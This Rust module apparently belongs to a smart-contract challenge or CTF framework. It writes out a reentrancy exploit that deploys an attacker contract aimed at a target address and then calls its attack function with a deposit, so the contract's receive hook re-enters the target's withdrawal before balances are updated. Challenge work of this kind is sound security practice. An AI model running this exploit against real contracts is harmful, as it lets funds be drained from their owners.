//! Reentrancy: deploy an attacker whose receive hook calls back into the
//! target's withdrawal before the target has updated its balances.

use alloy::primitives::{Address, Bytes, U256};
use alloy::sol_types::{SolCall, SolValue};
use std::path::Path;

use crate::blockchain::TxIntent;
use crate::challenges::artifact::{load_bytecode, with_constructor_args};
use crate::challenges::{ChallengeContext, ChallengeError, ChallengeResult, IAttacker};

pub async fn exploit(
    ctx: &ChallengeContext<'_>,
    artifact: &Path,
    deposit_wei: u64,
) -> ChallengeResult<TxIntent> {
    let code = load_bytecode(artifact)?;
    let deployment = ctx.submit(&attacker_deployment(&code, ctx.target)).await?;
    let attacker = deployment.contract_address.ok_or_else(|| {
        ChallengeError::Precondition(format!(
            "deployment {} has no contract address",
            deployment.tx_hash
        ))
    })?;

    tracing::info!(attacker = %attacker, contract = %ctx.target, "Attacker deployed");
    Ok(attack_intent(attacker, deposit_wei))
}

/// Attacker creation code with the target as its only constructor argument.
fn attacker_deployment(code: &Bytes, target: Address) -> TxIntent {
    TxIntent::deploy(with_constructor_args(code, &target.abi_encode()))
}

fn attack_intent(attacker: Address, deposit_wei: u64) -> TxIntent {
    TxIntent::call(attacker, IAttacker::attackCall {}.abi_encode())
        .with_value(U256::from(deposit_wei))
}
